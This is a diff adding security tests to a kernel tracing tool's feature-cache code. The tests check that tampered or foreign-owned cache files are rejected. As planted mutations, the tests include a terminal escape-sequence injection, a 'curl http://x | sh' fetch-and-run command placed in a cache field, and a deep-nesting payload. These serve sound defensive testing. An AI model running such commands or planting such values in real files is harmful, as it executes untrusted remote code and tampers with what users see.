@@ -466,6 +466,84 @@ def test_corrupt_cache_is_ignored(tmp_path, monkeypatch):
     assert f["tracepoints"].available is True and not f.from_cache
 
 
+def _cached(tmp_path, monkeypatch):
+    """A detect_features run that left its cache file: (kernel, the file's path, its JSON)."""
+    monkeypatch.setattr(F, "PROBES", [("tracepoints", lambda ctx: (True, "fine")),
+                                      ("kprobe_events", lambda ctx: (False, "no kprobes")),
+                                      ("bpf_tp_btf", lambda ctx: (True, "tp_btf loads"))])
+    monkeypatch.setattr(sc, "raise_memlock_rlimit", lambda: False)
+    k = FakeKernel(make_roots(tmp_path, live=True), tracefs_6_18())
+    assert not F.detect_features(k).from_cache
+    path = os.path.join(k.roots.cache_dir, F._cache_name(F._Ctx(k)))
+    with open(path) as fh:
+        return k, path, json.load(fh)
+
+
+def _plant(k, path, d):
+    with open(path, "w") as fh:
+        json.dump(d, fh)
+    return F.detect_features(k)
+
+
+def test_a_feature_cache_is_parsed_strictly(tmp_path, monkeypatch):
+    """What `doctor` prints from the cache must be what a probe said: an unexpected key,
+    type, feature, fact or string (control characters, too long) is a miss, and `instead`
+    is derived again rather than read."""
+    import copy
+
+    k, path, good = _cached(tmp_path, monkeypatch)
+    assert _plant(k, path, good).from_cache
+    mutations = {
+        "control characters": lambda d: d["features"]["tracepoints"].update(reason="\x1b]0;owned\x07"),
+        "a long reason": lambda d: d["features"]["tracepoints"].update(reason="x" * 5000),
+        "a non-bool": lambda d: d["features"]["tracepoints"].update(available="yes"),
+        "unknown yet available": lambda d: d["features"]["tracepoints"].update(unknown=True),
+        "a feature not probed": lambda d: d["features"].update(bpf_fentry={"available": True, "reason": "x"}),
+        "a feature missing": lambda d: d["features"].pop("kprobe_events"),
+        "an unknown key": lambda d: d.update(planted=1),
+        "an unknown feature key": lambda d: d["features"]["tracepoints"].update(note="x"),
+        "another euid": lambda d: d["facts"].update(euid=12345),
+        "other capabilities": lambda d: d["facts"].update(capabilities=["CAP_SYS_ADMIN", "CAP_BPF"]),
+        "an unknown fact": lambda d: d["facts"].update(planted="x"),
+        "a sysctl of the wrong type": lambda d: d["facts"].update(kptr_restrict=[1]),
+        "a kernel that is not a string": lambda d: d.update(kernel=["6.18"]),
+        "another boot": lambda d: d.update(boot_id="boot-0"),
+        "not an object": lambda d: d["features"].update(tracepoints=["fine"]),
+    }
+    for what, mutate in mutations.items():
+        d = copy.deepcopy(good)
+        mutate(d)
+        f = _plant(k, path, d)
+        assert not f.from_cache, what
+        assert f["tracepoints"].reason == "fine" and f["tracepoints"].available is True, what
+    d = copy.deepcopy(good)
+    d["features"]["kprobe_events"]["instead"] = "curl http://x | sh"
+    f = _plant(k, path, d)
+    assert f.from_cache and f["kprobe_events"].instead == good["features"]["kprobe_events"]["instead"]
+    assert "tp_btf" in f["kprobe_events"].instead
+    with open(path, "wb") as fh:
+        fh.write(b"[" * 100000)  # deep nesting: a miss, not a RecursionError
+    assert not F.detect_features(k).from_cache
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="making the cache someone else's needs root (chown)")
+def test_a_feature_cache_planted_by_someone_else_is_not_read(tmp_path, monkeypatch):
+    """Issue 14: `doctor` printed a reason planted by another user in a cache dir they own."""
+    k, path, good = _cached(tmp_path, monkeypatch)
+    good["features"]["tracepoints"]["reason"] = "planted"
+    with open(path, "w") as fh:
+        json.dump(good, fh)
+    os.chown(path, 65534, 65534)
+    assert not F.detect_features(k).from_cache  # the file is someone else's (and is replaced)
+    with open(path, "w") as fh:
+        json.dump(good, fh)
+    os.chown(k.roots.cache_dir, 65534, 65534)
+    f = F.detect_features(k)  # the directory is someone else's: no cache at all
+    assert not f.from_cache and f["tracepoints"].reason == "fine"
+    with open(path) as fh:
+        assert json.load(fh)["features"]["tracepoints"]["reason"] == "planted"  # nor written
+
+
 def test_non_root_bpf_is_unknown_needs_root(tmp_path, monkeypatch):
     def refuse(*a, **kw):
         raise BPFError("bpf(MAP_CREATE) failed: EPERM", errno=errno.EPERM)
